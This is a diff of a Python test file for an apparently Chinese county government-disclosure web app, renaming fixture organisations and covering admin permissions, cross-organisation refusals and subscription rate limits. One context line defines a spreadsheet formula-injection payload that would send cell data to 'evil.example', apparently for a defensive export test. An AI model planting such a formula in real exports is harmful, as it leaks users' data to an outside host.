@@ -25,13 +25,13 @@ EVIL = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
 @pytest.fixture
 def subscriptions(county):
     return [
-        Subscription.objects.create(email="citizen-a@example.invalid", organization=county.other_town),
-        Subscription.objects.create(email="citizen-b@example.invalid", organization=county.town),
+        Subscription.objects.create(email="citizen-a@example.invalid", organization=county.west),
+        Subscription.objects.create(email="citizen-b@example.invalid", organization=county.east),
     ]
 
 
 def test_a_township_admin_sees_no_subscriber(client, county, subscriptions, make_user):
-    town_admin = make_user("t_town_admin", county.town, Role.ORG_ADMIN)
+    town_admin = make_user("t_town_admin", county.east, Role.ORG_ADMIN)
     client.force_login(town_admin)
     assert client.get("/admin/disclosure/subscription/").status_code == 403
     for sub in subscriptions:
@@ -47,7 +47,7 @@ def test_a_township_admin_sees_no_subscriber(client, county, subscriptions, make
 
 
 def test_the_county_admin_and_superusers_see_the_subscribers(client, county, subscriptions, admin_user):
-    for user in (county.county_admin, admin_user):
+    for user in (county.admin, admin_user):
         client.force_login(user)
         page = client.get("/admin/disclosure/subscription/").content.decode()
         assert all(sub.email in page for sub in subscriptions), user
@@ -119,11 +119,9 @@ def test_feeds_carry_markup_typed_in_a_body_as_text(client, county, publish_item
 
 
 def test_the_item_admin_refuses_another_organisations_local_entry_and_unpublished_policy(client, county, make_item):
-    foreign_entry = CatalogEntry.objects.create(
-        name="河西乡本地事项", parent=county.group, organization=county.other_town
-    )
+    foreign_entry = CatalogEntry.objects.create(name="河西乡本地事项", parent=county.group, organization=county.west)
     foreign_draft = make_item(
-        title="河西乡未发布的政策", organization=county.other_town, actor=county.other_clerk, kind=ItemKind.DOCUMENT
+        title="河西乡未发布的政策", organization=county.west, actor=county.west_clerk, kind=ItemKind.DOCUMENT
     )
     draft = make_item(title="我的解读", kind=ItemKind.INTERPRETATION)
     client.force_login(county.clerk)
@@ -146,7 +144,7 @@ def test_the_item_admin_refuses_another_organisations_local_entry_and_unpublishe
 def test_one_mailbox_gets_at_most_the_limit_of_confirmation_mails(client, county, deliver_outbox):
     """Four subscriptions (each to another office, so none is a repeat the outbox folds) for one mailbox."""
     url = reverse("disclosure:subscribe")
-    offices = [county.town, county.other_town, county.civil, county.county]
+    offices = [county.east, county.west, county.civil, county.gov]
     statuses = [
         client.post(url, {"email": "victim@example.invalid", "organization": office.pk}).status_code
         for office in offices
@@ -160,11 +158,11 @@ def test_one_mailbox_gets_at_most_the_limit_of_confirmation_mails(client, county
 def test_one_address_gets_at_most_the_limit_of_subscriptions(client, county):
     url = reverse("disclosure:subscribe")
     statuses = [
-        client.post(url, {"email": f"p{n}@example.invalid", "organization": county.town.pk}).status_code
+        client.post(url, {"email": f"p{n}@example.invalid", "organization": county.east.pk}).status_code
         for n in range(4)
     ]
     assert statuses[:3] == [302, 302, 302] and statuses[3] == 429
-    response = client.post(url, {"email": "p9@example.invalid", "organization": county.town.pk})
+    response = client.post(url, {"email": "p9@example.invalid", "organization": county.east.pk})
     assert "操作过于频繁" in response.content.decode() and int(response["Retry-After"]) > 0
 
 
